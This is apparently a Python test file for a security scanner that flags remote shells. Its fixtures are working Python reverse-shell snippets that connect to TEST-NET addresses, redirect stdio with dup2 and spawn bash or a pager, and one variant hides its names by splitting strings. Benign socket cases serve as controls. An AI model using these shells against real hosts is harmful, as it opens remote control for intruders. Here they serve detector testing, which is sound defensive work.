"""Python: a connection put in place of stdin/stdout (``dup2``) drives whatever program starts next, and a
module imported through a small helper is still known. Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import analyse_file, scan_errors
from skillgrade.rules.security.behaviour.model import Language


def test_a_program_started_on_a_connection_put_in_place_of_stdio_is_a_remote_shell(tmp_path: Path) -> None:
    source = (
        "import os, socket, subprocess\n"
        "link = socket.create_connection(('192.0.2.61', 9001))\n"
        "os.dup2(link.fileno(), 0)\n"
        "os.dup2(link.fileno(), 1)\n"
        "subprocess.call([os.environ.get('PAGER_BIN', 'less')])\n"
    )
    found = analyse_file(tmp_path, "scripts/relay.py", source, Language.PYTHON)
    shells = [c for c in found if c.detail.endswith("(remote shell)")]
    assert [[link.line for link in c.chain] for c in shells] == [[3, 5]]


def test_a_module_imported_through_a_helper_is_resolved(tmp_path: Path) -> None:
    source = (
        "import os\n"
        "def load(mod):\n"
        "    return __import__(mod)\n"
        "net = load('soc' + 'ket')\n"
        "c = net.socket(net.AF_INET, net.SOCK_STREAM)\n"
        "c.connect(('198.51.100.140', 4242))\n"
        "getattr(os, 'du' + 'p2')(c.fileno(), 0)\n"
        "getattr(load('p' + 'ty'), 'spa' + 'wn')('/bin/bash')\n"
    )
    errors = scan_errors(tmp_path, {"scripts/helper.py": source})
    assert ("REMOTE_SHELL", "scripts/helper.py", 8) in errors


def test_a_connection_that_only_exchanges_data_is_no_remote_shell(tmp_path: Path) -> None:
    source = (
        "import socket, subprocess\n"
        "c = socket.create_connection(('198.51.100.141', 6379))\n"
        "c.sendall(b'PING\\r\\n')\n"
        "print(c.recv(64))\n"
        "subprocess.run(['redis-cli', 'info'], check=True)\n"
    )
    found = analyse_file(tmp_path, "scripts/ping.py", source, Language.PYTHON)
    assert not [c for c in found if c.detail.endswith("(remote shell)")]


def test_a_connection_handed_to_a_helper_that_puts_it_in_place_of_stdio_is_a_remote_shell(tmp_path: Path) -> None:
    source = (
        "import os, socket, subprocess\n"
        "def bridge(conn):\n"
        "    for n in range(3):\n"
        "        os.dup2(conn.fileno(), n)\n"
        "    subprocess.call(['/bin/bash', '-i'])\n"
        "def run():\n"
        "    peer = socket.socket()\n"
        "    peer.connect(('198.51.100.250', 7000))\n"
        "    if os.fork() == 0:\n"
        "        bridge(peer)\n"
        "run()\n"
    )
    errors = scan_errors(tmp_path, {"tools/bridge.py": source})
    assert [e for e in errors if e[0] == "REMOTE_SHELL" and e[1] == "tools/bridge.py"]


def test_a_connection_handed_to_a_helper_that_only_sends_a_greeting_is_no_error(tmp_path: Path) -> None:
    source = (
        "import socket\n"
        "def greet(conn, name):\n"
        "    conn.sendall(b'HELO ' + name.encode())\n"
        "    return conn.recv(64)\n"
        "def run():\n"
        "    peer = socket.create_connection(('198.51.100.250', 25))\n"
        "    print(greet(peer, 'build-host'))\n"
        "run()\n"
    )
    assert scan_errors(tmp_path, {"tools/probe.py": source}) == set()
